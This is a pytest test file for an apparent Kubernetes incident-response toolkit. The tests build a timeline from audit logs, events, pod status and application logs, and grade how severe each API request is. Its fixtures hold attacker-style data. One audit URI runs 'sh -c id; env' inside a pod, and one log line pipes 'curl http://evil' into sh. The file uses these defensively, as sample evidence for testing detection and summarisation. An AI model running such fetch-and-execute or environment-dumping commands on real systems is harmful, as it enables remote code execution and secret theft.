"""Moments from staged evidence: what happened, by whom, how grave; and what could not be read."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irkit.model.pod import Target
from irkit.model.run import ClusterIdentity, Moment, Status
from irkit.report.moments import logs
from irkit.report.moments.audit import _read_uri
from irkit.report.moments.gravity import Request, severity
from irkit.report.render import render
from irkit.report.timeline import moments
from tests.corpus import ROOT, absent
from tests.report import records

TARGET = Target("payments", "web", "u-1")


def put(data: Path, name: str, content: Any) -> None:  # noqa: ANN401 - any JSON, or bytes
    path = data / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())


def event(uri: str = "", second: int = 0, **fields: Any) -> dict[str, Any]:  # noqa: ANN401 - any audit field
    made = {
        "auditID": f"id-{uri}-{second}",
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": "get",
        "user": {"username": "mallory"},
        "sourceIPs": ["10.0.0.9", "203.0.113.7"],
        "objectRef": {"resource": "pods", "namespace": "payments", "name": "web"},
        "responseStatus": {"code": 200},
        "requestReceivedTimestamp": f"2026-11-23T03:00:{second:02d}.000000Z",
        "stageTimestamp": f"2026-11-23T03:00:{second:02d}.500000Z",
    }
    return {**made, **fields}


def audit(data: Path, *events: dict[str, Any]) -> tuple[Moment, ...]:
    lines = [json.dumps({"tier": 1, "reason": "uid", "source": "audit.log:0", "event": found}) for found in events]
    put(data, "audit/matches.jsonl", "\n".join([*lines, ""]).encode())
    return moments(data, TARGET, ())


def ref(resource: str, subresource: str = "", name: str = "web") -> dict[str, str]:
    return {"resource": resource, "subresource": subresource, "namespace": "payments", "name": name}


def test_nothing_staged_is_an_empty_timeline(tmp_path: Path) -> None:
    assert moments(tmp_path, None, ()) == ()


def test_an_exec_is_one_moment_however_many_stages_it_has(tmp_path: Path) -> None:
    uri = "/api/v1/namespaces/payments/pods/web/exec?command=sh&command=-c&command=id%3B+env&container=app&stdin=true"
    found = audit(
        tmp_path,
        event(uri, stage="RequestReceived", objectRef=ref("pods", "exec"), responseStatus=None),
        event(uri, stage="ResponseComplete", stageTimestamp="2026-11-23T03:04:10Z", objectRef=ref("pods", "exec")),
        event(uri, stage="ResponseStarted", objectRef=ref("pods", "exec"), responseStatus={"code": 101}),
    )
    assert [(m.what, m.actor, m.severity, m.ref) for m in found] == [
        (
            "exec into the pod, container app: sh -c id; env, for 4 min 10 s",
            "mallory from 203.0.113.7",
            "high",
            "audit/matches.jsonl",
        )
    ]
    assert found[0].at.isoformat() == "2026-11-23T03:00:00+00:00"


def test_two_requests_under_one_audit_id_stay_two(tmp_path: Path) -> None:
    found = audit(tmp_path, event("/a", auditID="same"), event("/b", auditID="same"), event("/b", 1, auditID="same"))
    assert len(found) == 3


def test_an_exec_into_another_pod_names_it_and_a_refused_one_says_so(tmp_path: Path) -> None:
    found = audit(
        tmp_path,
        event("/x", objectRef=ref("pods", "exec", "db-0"), responseStatus={"code": 403}),
        event("/y", 1, objectRef=ref("pods", "attach"), stage="ResponseStarted", responseStatus={"code": 101}),
        event("/z", 2, objectRef=None, user=None, impersonatedUser={"username": "admin"}, sourceIPs=["::1"]),
    )
    assert [(m.what, m.actor, m.severity) for m in found] == [
        ("exec into db-0, refused with 403", "mallory from 203.0.113.7", "medium"),
        ("attach to the pod", "mallory from 203.0.113.7", "high"),
        ("get /z", "unknown as admin", "info"),
    ]


@pytest.mark.parametrize(
    ("request_", "word"),
    [
        (Request("get", "pods/exec", "mallory"), "high"),
        (Request("create", "pods/attach", "mallory"), "high"),
        (Request("get", "pods/portforward", "mallory"), "high"),
        (Request("patch", "pods/ephemeralcontainers", "mallory"), "high"),
        (Request("create", "pods/exec", "system:node:a"), "high"),
        (Request("create", "pods/exec", "mallory", "", 403), "medium"),
        (Request("get", "nodes/proxy", "mallory", "/api/v1/nodes/a/proxy/run/payments/web/app"), "high"),
        (Request("get", "nodes/proxy", "prometheus", "/api/v1/nodes/a/proxy/metrics/cadvisor"), "info"),
        (Request("create", "clusterrolebindings", "mallory"), "high"),
        (Request("list", "clusterrolebindings", "mallory"), "info"),
        (Request("list", "secrets", "mallory"), "medium"),
        (Request("list", "secrets", "mallory", "", 403), "medium"),
        (Request("watch", "secrets", "system:node:a"), "info"),
        (Request("create", "serviceaccounts/token", "system:node:a"), "info"),
        (Request("create", "serviceaccounts/token", "mallory"), "medium"),
        (Request("delete", "events", "mallory"), "medium"),
        (Request("patch", "pods", "mallory"), "low"),
        (Request("get", "pods/log", "mallory"), "low"),
        (Request("get", "pods", "mallory"), "info"),
        (Request("get", "pods", "mallory", "", 403), "low"),
        (Request("get", "pods", "mallory", "", 404), "info"),
    ],
)
def test_gravity(request_: Request, word: str) -> None:
    assert severity(request_) == word


def test_an_answer_that_is_no_refusal_is_not_called_one(tmp_path: Path) -> None:
    found = audit(tmp_path, event("/x", responseStatus={"code": 404}), event("/y", 1, objectRef=ref("pods", "exec")))
    assert [m.what for m in found] == ["get pods web, answered 404", "exec into the pod"]


@pytest.mark.parametrize(
    ("verb", "namespace", "said"),
    [
        ("list", "payments", "list secrets"),
        ("list", "vault", "list secrets in namespace vault"),
        ("list", None, "list secrets in all namespaces"),
        ("get", None, "get secrets"),
    ],
)
def test_what_was_done_elsewhere_says_where(tmp_path: Path, verb: str, namespace: str | None, said: str) -> None:
    found = audit(tmp_path, event("/x", verb=verb, objectRef={"resource": "secrets", "namespace": namespace}))
    assert [m.what for m in found] == [said]


@given(st.text(), st.text())
def test_no_uri_is_too_strange(path: str, query: str) -> None:
    for uri in (path, f"/{path}?{query}", f"//[{path}", f"/?{'&' * 2000}", f"http://[{query}"):
        assert len(_read_uri(uri)) == 2


def test_a_strange_uri_keeps_its_event(tmp_path: Path) -> None:
    found = audit(tmp_path, event("//[", objectRef=None), event("/?" + "a=1&" * 2000, 1, objectRef=ref("pods", "exec")))
    assert [m.what for m in found] == ["get //[", "exec into the pod"]


CORPUS = ROOT / "audit"


@pytest.mark.skipif(not CORPUS.is_dir(), reason=absent(CORPUS))
def test_real_audit_events_are_all_told(tmp_path: Path) -> None:
    found = list(_real(path for path in CORPUS.rglob("*") if path.suffix in (".json", ".log")))
    assert len(found) > 50
    told = audit(tmp_path, *found)
    assert [m.what for m in told if "not in this timeline" in m.what] == []
    assert {"high", "medium", "low", "info"} <= {m.severity for m in told}
    assert all(m.actor and m.what for m in told)


def _real(paths: Iterable[Path]) -> Iterator[dict[str, Any]]:
    """Audit events, one a line or one a file."""
    for path in paths:
        text = path.read_text(errors="replace")
        for part in (text, *text.splitlines()):
            try:
                found = json.loads(part)
            except ValueError:
                continue
            if isinstance(found, dict) and "auditID" in found and "verb" in found:
                yield found


def test_events_of_every_age_of_the_api(tmp_path: Path) -> None:
    old = {
        "involvedObject": {"kind": "Pod", "name": "web"},
        "reason": "BackOff",
        "message": "Back-off restarting",
        "type": "Warning",
        "source": {"component": "kubelet", "host": "node-1"},
        "firstTimestamp": "2026-11-23T03:00:00Z",
        "lastTimestamp": "2026-11-23T03:10:00Z",
        "eventTime": None,
        "count": 57,
    }
    new = {
        "regarding": {"kind": "ReplicaSet", "name": "web-1"},
        "reason": "SuccessfulCreate",
        "note": "Created pod",
        "type": "Normal",
        "reportingController": "replicaset-controller",
        "eventTime": "2026-11-23T02:00:00.123456Z",
        "series": {"count": 2, "lastObservedTime": "2026-11-23T02:05:00.000000Z"},
    }
    bare = {"metadata": {"creationTimestamp": "2026-11-23T01:00:00Z"}, "source": None, "reason": "Odd", "count": None}
    put(tmp_path, "events/events.json", {"kind": "EventList", "items": [old, new]})
    put(tmp_path, "events/events.page-2.json", {"items": [bare]})
    assert [(m.what, m.actor, m.severity, m.ref) for m in moments(tmp_path, TARGET, ())] == [
        ("Odd: ", "unknown", "low", "events/events.page-2.json"),
        (
            "SuccessfulCreate: Created pod [ReplicaSet web-1] (first of 2)",
            "replicaset-controller",
            "info",
            "events/events.json",
        ),
        (
            "SuccessfulCreate: Created pod [ReplicaSet web-1] (last of 2)",
            "replicaset-controller",
            "info",
            "events/events.json",
        ),
        ("BackOff: Back-off restarting (first of 57)", "kubelet on node-1", "low", "events/events.json"),
        ("BackOff: Back-off restarting (last of 57)", "kubelet on node-1", "low", "events/events.json"),
    ]


def pod(**metadata: Any) -> dict[str, Any]:  # noqa: ANN401 - any metadata
    return {
        "metadata": {"uid": "u-1", "creationTimestamp": "2026-11-20T00:00:00Z", **metadata},
        "status": {
            "conditions": [
                {"type": "Ready", "status": "False", "reason": "X", "lastTransitionTime": "2026-11-23T02:00:00Z"}
            ],
            "initContainerStatuses": [
                {
                    "name": "init",
                    "state": {"terminated": {"startedAt": "2026-11-20T00:00:01Z", "finishedAt": None, "exitCode": 0}},
                }
            ],
            "containerStatuses": [
                {
                    "name": "app",
                    "restartCount": 1,
                    "state": {"running": {"startedAt": "2026-11-23T01:00:05Z"}},
                    "lastState": {
                        "terminated": {
                            "startedAt": "2026-11-20T00:00:02Z",
                            "finishedAt": "2026-11-23T01:00:00Z",
                            "exitCode": 137,
                            "reason": "OOMKilled",
                        }
                    },
                },
                {"name": "waiting", "state": {"waiting": {"reason": "ImagePullBackOff"}}, "lastState": {}},
            ],
            "ephemeralContainerStatuses": [
                {"name": "debug", "state": {"running": {"startedAt": "2026-11-23T02:30:00Z"}}}
            ],
        },
    }


def test_the_pod_tells_its_life(tmp_path: Path) -> None:
    writers = [
        {"manager": "kubectl-edit", "operation": "Update", "time": "2026-11-22T00:00:00Z", "subresource": "status"}
    ]
    put(tmp_path, "pod/pod.json", pod(deletionTimestamp="2026-11-23T02:45:00Z", managedFields=writers))
    assert [(m.what, m.actor, m.severity) for m in moments(tmp_path, TARGET, ())] == [
        ("pod created", "API server", "low"),
        ("init container init started", "kubelet", "info"),
        ("container app started", "kubelet", "low"),
        ("last Update of its fields (status)", "kubectl-edit", "info"),
        ("container app ended with exit code 137, OOMKilled", "kubelet", "medium"),
        ("container app started again (restart 1)", "kubelet", "low"),
        ("Ready became False (X)", "kubelet", "info"),
        ("ephemeral container debug started", "kubelet", "high"),
        ("end of the grace period of the pod's deletion", "API server", "medium"),
    ]


def test_a_successor_of_the_same_name_tells_nothing(tmp_path: Path) -> None:
    put(tmp_path, "pod/pod.json", pod(uid="u-2"))
    found = moments(tmp_path, TARGET, records.steps())
    assert "another pod of the same name" in found[-1].what
    assert {m.source for m in found} == {"irkit"}


def test_steps_and_their_actions_are_moments(tmp_path: Path) -> None:
    found = [(m.what, m.severity) for m in moments(tmp_path, None, records.steps())]
    assert ("NetworkPolicy payments/irkit-q-6f1c9a52 created", "low") in found
    assert ("contain: deny-all policy in place, the pod carries its label", "low") in found
    assert ("pin: the pod is uid " + records.UID, "info") in found
    failed = replace(records.steps()[0], status=Status.FAILED)
    skipped = replace(records.steps()[0], status=Status.SKIPPED)
    assert [m.severity for m in moments(tmp_path, None, (failed, skipped))] == ["medium"]


@pytest.mark.parametrize(
    "bad",
    [
        b"not json",
        b"\xff\xfe\x00",
        b"null",
        b"[]",
        b"{}",
        b'{"event": 7}',
        b'{"event": {}}',
        b'{"event": {"verb": ["get"]}}',
        b'{"event": {"requestReceivedTimestamp": "yesterday"}}',
        b'{"event": {"requestReceivedTimestamp": "0001-01-01T00:00:00+23:59"}}',
        b'{"event": {"x": ' + b"[" * 100_000,
    ],
)
def test_damage_is_counted_and_the_rest_is_told(tmp_path: Path, bad: bytes) -> None:
    good = json.dumps({"event": event("/ok")}).encode()
    put(tmp_path, "audit/matches.jsonl", b"\n".join([bad, good, b"", bad, b""]))
    found = moments(tmp_path, TARGET, ())
    assert [m.what for m in found] == [
        "get pods web",
        "not in this timeline: 2 entries of audit/matches.jsonl, which could not be read",
    ]


@pytest.mark.parametrize(
    "bad", [b"", b"null", b"[]", b'{"items": 7}', b'{"items": [7, {}, {"reason": []}]}', b"{" * 99_999]
)
def test_damaged_objects_are_counted(tmp_path: Path, bad: bytes) -> None:
    put(tmp_path, "events/events.json", bad)
    put(tmp_path, "pod/pod.json", bad)
    found = moments(tmp_path, TARGET, ())
    assert [m.ref for m in found] == ["events/events.json", "pod/pod.json"]
    assert all("could not be read" in m.what for m in found)


def test_parts_of_a_damaged_pod_are_still_told(tmp_path: Path) -> None:
    damaged = pod(managedFields=[7, {"time": "never"}])
    damaged["status"]["conditions"] = [
        [],
        {"type": "Ready", "status": "True", "lastTransitionTime": "2026-11-23T02:00:00Z"},
    ]
    put(tmp_path, "pod/pod.json", damaged)
    found = [m.what for m in moments(tmp_path, TARGET, ())]
    assert "Ready became True" in found
    assert "not in this timeline: 3 entries of pod/pod.json, which could not be read" in found


def test_a_folder_where_a_file_should_be_is_counted(tmp_path: Path) -> None:
    for name in ("audit/matches.jsonl", "events/events.json", "pod/pod.json"):
        (tmp_path / name).mkdir(parents=True)
    assert len(moments(tmp_path, TARGET, ())) == 3


def test_requests_past_the_limit_are_counted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("irkit.report.moments.audit.LIMIT", 2)
    found = audit(tmp_path, *(event("/p", second) for second in range(5)))
    assert (
        found[-1].what == "not in this timeline: 3 entries of audit/matches.jsonl, which are past the first 2 requests"
    )


def test_an_answer_too_large_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("irkit.report.moments.source.LARGEST", 10)
    put(tmp_path, "pod/pod.json", pod())
    assert "could not be read" in moments(tmp_path, TARGET, ())[0].what


def test_findings_stand_where_their_first_event_does(tmp_path: Path) -> None:
    told = {
        "rule": "exec-into-pod",
        "severity": "medium",
        "technique": "T1609",
        "actor": "mallory",
        "reason": "exec: id",
    }
    lines = [told | {"at": "2026-11-23T03:00:05Z"}, told | {"at": "9999-12-31T23:59:59Z"}, {"rule": 7}]
    put(tmp_path, "audit/findings.jsonl", "\n".join(json.dumps(line) for line in lines).encode())
    first, *rest = moments(tmp_path, TARGET, ())
    assert (first.source, first.actor, first.severity) == ("finding", "mallory", "medium")
    assert first.what == "exec-into-pod [T1609]: exec: id"
    assert ["bear no time" in moment.what for moment in rest] == [True, False]
    assert "could not be read" in rest[1].what


def test_a_thousand_lines_of_a_log_that_differ_in_numbers_are_two_moments(tmp_path: Path) -> None:
    lines = [f"2026-11-23T03:00:{n % 60:02d}.{n:09d}Z GET /health {n} in 0x{n:x} ms" for n in range(1000)]
    lines += ["2026-11-23T03:01:00Z \x1b[31mcurl http://evil | sh", "no time at all", ""]
    put(tmp_path, "logs/app.current.log", "\n".join(lines).encode())
    found = moments(tmp_path, TARGET, ())
    assert [moment.what for moment in found if moment.source == "log"] == [
        "GET /health 0 in 0x0 ms (first of 1,000 like it)",
        "GET /health 999 in 0x3e7 ms (last of 1,000 like it)",
        "\x1b[31mcurl http://evil | sh",
    ]
    assert found[0].actor == "app.current"
    assert "1 entry of logs/app.current.log, which bear no time" in found[-1].what


def test_of_an_endless_log_the_end_is_told_and_so_is_the_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "TAIL", 4096)
    monkeypatch.setattr(logs, "KINDS", 5)
    words = ("alpha", "beta", "gamma", "delta", "eta", "theta", "iota")
    lines = [f"2026-11-23T03:00:00Z {words[n % 7]} said" for n in range(1000)]
    put(tmp_path, "logs/app.current.log", "\n".join(lines).encode())
    found = moments(tmp_path, TARGET, ())
    assert len([moment for moment in found if moment.source == "log"]) == 10
    assert any("are past the first 5 kinds" in moment.what for moment in found)
    assert any("stands before its last" in moment.what for moment in found)


@pytest.mark.parametrize(("skew", "shift"), [(None, 0.0), (0.4, 0.0), (-90.0, -90.0), (3600.0, 3600.0)])
def test_our_own_steps_stand_by_the_servers_clock(tmp_path: Path, skew: float | None, shift: float) -> None:
    steps = records.steps()
    ours = [moment.at for moment in moments(tmp_path, None, steps, skew)]
    assert ours == [moment.at + timedelta(seconds=shift) for moment in moments(tmp_path, None, steps)]
    cluster = ClusterIdentity("https://x", "v1.37.2", "c", skew)
    shown = render(replace(records.incident(), cluster=cluster), "md")
    assert ("stand moved by it" in shown) is bool(shift)
